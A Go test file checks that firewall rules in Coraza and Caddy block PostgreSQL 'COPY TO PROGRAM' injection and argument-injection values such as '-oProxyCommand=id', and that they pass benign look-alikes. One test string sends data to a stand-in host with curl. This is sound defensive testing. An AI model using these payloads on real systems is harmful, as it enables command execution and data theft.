package waf

import (
	"net/url"
	"testing"

	"github.com/corazawaf/coraza/v3"
)

var copyProgramAttacks = []string{
	"1;COPY (SELECT 1) TO PROGRAM 'id'",
	"1; COPY users TO PROGRAM 'curl -d @- http://evil.example'",
	"1;COPY t FROM PROGRAM 'id'",
	"1;copy (select 1) to program $$id$$",
	"1;copy/**/t/**/from/**/program/**/'id'",
	"1;COPY t(a) FROM PROGRAM E'id'",
}

var argumentAttacks = []string{
	"ext::sh -c id", "-oProxyCommand=id", "-o ProxyCommand=id", "--upload-pack=id", "--upload-pack id",
	"--open-files-in-pager=id", "--use-compress-program=id", "--checkpoint-action=exec=id", "-exec id ;",
	"-c core.sshCommand=id", "--config=core.pager=id", "--to-command=id",
}

var execBenign = []string{
	"copy to program", "Copy the report to program managers", "Please copy users to program staff list",
	"-1", "-o", "--help", "--verbose", "-v", "- a list item", "use find -exec to run a command on each file",
	"-executive summary", "--exec-path", "external::link", "the ssh option -oProxyCommand is documented", "--output=report.txt",
}

// execMatches runs v through rules 210180-210186 in Coraza with the
// prefilter on, as the waf loads them, and returns the ids that matched.
func execMatches(t *testing.T, waf coraza.WAF, v string) []int {
	t.Helper()
	tx := waf.NewTransaction()
	defer tx.Close()
	tx.AddGetRequestArgument("v", v)
	tx.ProcessRequestHeaders()
	if _, err := tx.ProcessRequestBody(); err != nil {
		t.Fatal(err)
	}
	var ids []int
	for _, r := range tx.MatchedRules() {
		ids = append(ids, r.Rule().ID())
	}
	return ids
}

// TestExecRules: rules 210180 to 210186, through Coraza with its @rx
// prefilter on (SecRxPreFilter On, as the waf sets it), match the fifth
// attack's F19 and F20 and none of the near-misses.
func TestExecRules(t *testing.T) {
	waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives("SecRuleEngine On\nSecRxPreFilter On\n" + execRules))
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range copyProgramAttacks {
		if ids := execMatches(t, waf, s); len(ids) != 1 || ids[0] != 210180 {
			t.Errorf("%q: rules %v, want 210180", s, ids)
		}
	}
	for _, s := range argumentAttacks {
		if ids := execMatches(t, waf, s); len(ids) != 1 || ids[0] < 210181 || ids[0] > 210186 {
			t.Errorf("%q: rules %v, want one of 210181-210186", s, ids)
		}
	}
	for _, s := range execBenign {
		if ids := execMatches(t, waf, s); len(ids) != 0 {
			t.Errorf("the benign %q: rules %v", s, ids)
		}
	}
}

// TestExecRulesBeyondTheCRS: through a real Caddy, in the query and in
// JSON.
func TestExecRulesBeyondTheCRS(t *testing.T) {
	var misses, benign []probe
	for _, s := range append(append([]string{}, copyProgramAttacks...), argumentAttacks...) {
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/api/run?v=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api/run", contentType: "application/json", body: jsonString("v", s)})
	}
	for _, s := range execBenign {
		benign = append(benign, probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("v", s)})
	}
	runBeyondTheCRS(t, nil, misses, benign)
}
